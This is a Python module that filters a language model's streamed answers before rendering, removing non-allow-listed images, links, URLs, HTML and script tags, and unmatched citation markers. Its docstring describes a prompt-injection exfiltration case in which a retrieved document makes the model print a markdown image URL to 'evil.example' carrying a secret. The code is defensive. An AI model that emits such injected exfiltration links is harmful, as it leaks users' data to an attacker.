"""Model output is untrusted (OWASP LLM05:2025, test plan T10): before an answer reaches a
renderer, markdown images, links, autolinks, bare URLs and HTML tags that point anywhere but an
allow-listed host are removed, and citation markers that name no passage are dropped.

A document can tell the model to print ``![x](https://evil.example/leak?d=SECRET)``; a chat
widget that renders markdown would then fetch that URL by itself (EchoLeak, CVE-2025-32711).
What is removed:

- images: every one, unless its URL is http(s) on an allowed host (reference images always);
- links: the link text stays, the URL goes (unless allowed); reference definitions go;
- ``<https://...>`` autolinks and bare ``http(s)://`` / ``www.`` URLs: replaced by
  "(link removed)" unless allowed; HTML tags: all removed;
- ``<script>`` and ``<style>`` elements: their contents too, up to the closing tag; one not
  closed within ``MAX_CONSTRUCT`` characters (or by the end) takes the rest of the text with it;
- ``[n]`` markers with no passage ``n``;
- bidi controls (retrieval/bidi.py), which could reverse the text that follows them.

:class:`OutputFilter` works on a stream: :meth:`~OutputFilter.feed` returns the text that can
no longer change (it holds back the last word and any construct still open), and
:meth:`~OutputFilter.flush` the rest. The text is cut only between tokens, so the deltas of a
stream join to exactly what one ``feed`` of the whole text plus ``flush`` returns.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

from retrieval.bidi import strip_bidi

LINK_REMOVED = "(link removed)"
MAX_CONSTRUCT = 2000  # a bracket not closed within this many characters is plain text
_NEVER = -1
_URL_START = re.compile(r"https?://|www\.", re.IGNORECASE)
_URL_TRAILING = ".,;:!?'\")]}>*_"
_LOOKS_LIKE_URL = re.compile(r"^(?:<?[a-z][a-z0-9+.-]*:|<?/|<?www\.)", re.IGNORECASE)
_MARKER = re.compile(r"\[(\d{1,4})\]")
_RAW_TEXT = re.compile(r"(script|style)(?=[\s/]|$)", re.IGNORECASE)  # inside an opening tag
_RAW_TEXT_END = {
    name: re.compile(rf"</{name}(?:[\s/][^>]*)?>", re.IGNORECASE) for name in ("script", "style")
}


def host_allowed(url: str, allow_hosts: Iterable[str]) -> bool:
    """Whether ``url`` is http(s) on an allowed host ("example.com" allows its subdomains)."""
    target = url.strip().strip("<>")
    if target.lower().startswith("www."):
        target = "https://" + target
    try:
        parts = urlsplit(target)
        host = (parts.hostname or "").lower().rstrip(".")
    except ValueError:
        return False
    if parts.scheme.lower() not in ("http", "https") or not host:
        return False
    allowed = {h.strip().lower().lstrip(".") for h in allow_hosts if h.strip()}
    return any(host == a or host.endswith("." + a) for a in allowed)


def cited_numbers(text: str, passages: int) -> list[int]:
    """The passage numbers cited in ``text``, in order of first use."""
    found = (int(m.group(1)) for m in _MARKER.finditer(text))
    return list(dict.fromkeys(n for n in found if 1 <= n <= passages))


def clean(text: str, *, allow_hosts: Iterable[str] = (), passages: int = 0) -> str:
    """``text`` with unsafe links/images and dangling citation markers removed, stripped."""
    f = OutputFilter(allow_hosts=allow_hosts, passages=passages)
    return f.feed(text) + f.flush()


class OutputFilter:
    def __init__(self, *, allow_hosts: Iterable[str] = (), passages: int = 0) -> None:
        self.allow_hosts = tuple(allow_hosts)
        self.passages = passages
        self._raw = ""
        self._pos = 0
        self._started = False
        self._pending = ""

    def feed(self, delta: str) -> str:
        self._raw += strip_bidi(delta)
        return self._emit(final=False)

    def flush(self) -> str:
        return self._emit(final=True)

    def _emit(self, *, final: bool) -> str:
        scanner = _Scanner(self._raw, self.allow_hosts, self.passages, final=final)
        tokens = scanner.tokens(self._pos)
        if not final:
            # hold back the last word (it may grow into a URL) and the blank before it
            cut = len(tokens)
            while cut and not tokens[cut - 1][2]:
                cut -= 1
            while cut and tokens[cut - 1][2]:
                cut -= 1
            tokens = tokens[:cut]
        if tokens:
            self._pos = tokens[-1][0]
        text = self._pending + "".join(out for _, out, _ in tokens)
        if not self._started:
            text = text.lstrip()
            self._started = bool(text)
        kept = text if final else text.rstrip()
        self._pending = "" if final else text[len(kept) :]
        return kept.rstrip() if final else kept


class _Scanner:
    """Splits text into tokens: one character of plain text, or one whole construct (link,
    image, tag, URL, bracket). ``final=False``: a construct the text ends inside is undecided."""

    def __init__(self, text: str, allow: tuple[str, ...], passages: int, *, final: bool) -> None:
        self.text, self.allow, self.passages, self.final = text, allow, passages, final

    def tokens(self, start: int) -> list[tuple[int, str, bool]]:
        """(end, output, is_blank) per token from ``start`` until the text or the decided part
        of it ends."""
        found: list[tuple[int, str, bool]] = []
        i = start
        while i < len(self.text):
            step = self.step(i)
            if step is None:
                break
            end, out = step
            found.append((end, out, end == i + 1 and self.text[i].isspace()))
            i = end
        return found

    def render(self, text: str) -> str:
        inner = _Scanner(text, self.allow, self.passages, final=True)
        return "".join(out for _, out, _ in inner.tokens(0))

    def close(self, i: int, opening: str, closing: str) -> int | None:
        """Index of the bracket matching the one at ``i`` on the same line; ``_NEVER`` when
        there is none; None when the text ends first (undecided)."""
        depth, text = 0, self.text
        end = min(len(text), i + MAX_CONSTRUCT)
        for j in range(i, end):
            c = text[j]
            if c == "\n":
                return _NEVER
            if c == opening:
                depth += 1
            elif c == closing:
                depth -= 1
                if depth == 0:
                    return j
        return None if end == len(text) and not self.final else _NEVER

    def step(self, i: int) -> tuple[int, str] | None:
        text = self.text
        c = text[i]
        if c == "!":
            return self.image(i)
        if c == "[":
            return self.bracket(i)
        if c == "<":
            return self.angle(i)
        if c in "hHwW" and (i == 0 or not text[i - 1].isalnum()):
            return self.url(i)
        return i + 1, c

    def image(self, i: int) -> tuple[int, str] | None:
        text = self.text
        if i + 1 == len(text):
            return None if not self.final else (i + 1, "!")
        if text[i + 1] != "[":
            return i + 1, "!"
        parsed = self.parse_bracket(i + 1)
        if parsed is None:
            return None
        end, kind, _label, target = parsed
        if kind == "inline":
            return end, text[i:end] if host_allowed(target, self.allow) else ""
        if kind == "reference":
            return end, ""
        return i + 1, "!"

    def bracket(self, i: int) -> tuple[int, str] | None:
        parsed = self.parse_bracket(i)
        if parsed is None:
            return None
        end, kind, label, target = parsed
        if kind == "plain":
            if end == i + 1:
                return end, "["
            if label.strip().isdigit() and len(label.strip()) <= 4:
                n = int(label)
                return end, f"[{n}]" if 1 <= n <= self.passages else ""
            return end, "[" + self.render(label) + "]"
        if kind == "inline":
            if host_allowed(target, self.allow):
                return end, "[" + self.render(label) + "]" + self.text[i + len(label) + 2 : end]
            return end, self.render(label)
        if kind == "reference":
            return end, self.render(label)
        return end, self.text[i:end] if host_allowed(target, self.allow) else ""

    def parse_bracket(self, i: int) -> tuple[int, str, str, str] | None:
        """(end, kind, label, target) of the bracket at ``i``: kind is inline ``[a](url)``,
        reference ``[a][r]``, definition ``[r]: url``, or plain ``[a]`` (end ``i + 1`` when it
        never closes). None: undecided yet."""
        text = self.text
        j = self.close(i, "[", "]")
        if j is None:
            return None
        if j == _NEVER:
            return i + 1, "plain", "", ""
        label, k = text[i + 1 : j], j + 1
        if label.strip().isdigit():  # a citation marker, whatever follows it
            return k, "plain", label, ""
        if k == len(text):
            return None if not self.final else (k, "plain", label, "")
        if text[k] in "([":
            m = self.close(k, text[k], ")" if text[k] == "(" else "]")
            if m is None:
                return None
            if m != _NEVER:
                inside = text[k + 1 : m].split()
                target = inside[0].strip("<>") if inside else ""
                return m + 1, "inline" if text[k] == "(" else "reference", label, target
        if text[k] == ":":
            words = re.match(r"[ \t]*(\S*)", text[k + 1 :])
            word = words.group(1) if words else ""
            undecided = k + 1 + (words.end() if words else 0) == len(text)
            if undecided and not self.final:
                return None
            if _LOOKS_LIKE_URL.match(word):
                newline = text.find("\n", k)
                if newline == -1 and not self.final:
                    return None
                end = len(text) if newline == -1 else newline
                return end, "definition", label, word.strip("<>")
        return k, "plain", label, ""

    def angle(self, i: int) -> tuple[int, str] | None:
        text = self.text
        if i + 1 == len(text):
            return None if not self.final else (i + 1, "<")
        if not (text[i + 1].isalpha() or text[i + 1] in "/!?"):
            return i + 1, "<"
        j = self.close(i, "<", ">")
        if j is None:
            return None
        if j == _NEVER:
            return i + 1, "<"
        inside = text[i + 1 : j]
        if _URL_START.match(inside):
            return j + 1, text[i : j + 1] if host_allowed(inside, self.allow) else LINK_REMOVED
        element = _RAW_TEXT.match(inside)
        if element:
            return self.raw_text(i, j + 1, element.group(1).lower())
        return j + 1, ""  # an HTML tag

    def raw_text(self, i: int, start: int, name: str) -> tuple[int, str] | None:
        """A ``<script>``/``<style>`` element opened at ``i`` (its tag ends before ``start``),
        dropped whole up to its closing tag. When that tag does not end within MAX_CONSTRUCT
        characters of ``i``, or before the text does, the rest of the text goes with it."""
        limit = i + MAX_CONSTRUCT
        closing = _RAW_TEXT_END[name].search(self.text, start, limit)
        if closing:
            return closing.end(), ""
        if len(self.text) < limit and not self.final:
            return None
        return len(self.text), ""

    def url(self, i: int) -> tuple[int, str] | None:
        text = self.text
        head = text[i : i + 8].lower()
        if not _URL_START.match(head):
            if (
                not self.final
                and i + 8 > len(text)
                and any(p.startswith(head) for p in ("http://", "https://", "www."))
            ):
                return None  # may still become a URL
            return i + 1, text[i]
        end = i
        while end < len(text) and not text[end].isspace() and text[end] not in "<>[]":
            end += 1
        if end == len(text) and not self.final:
            return None
        while end > i and text[end - 1] in _URL_TRAILING:
            end -= 1
        url = text[i:end]
        if not _URL_START.fullmatch(url) and host_allowed(url, self.allow):
            return end, url
        return (end, LINK_REMOVED) if end > i else (i + 1, text[i])
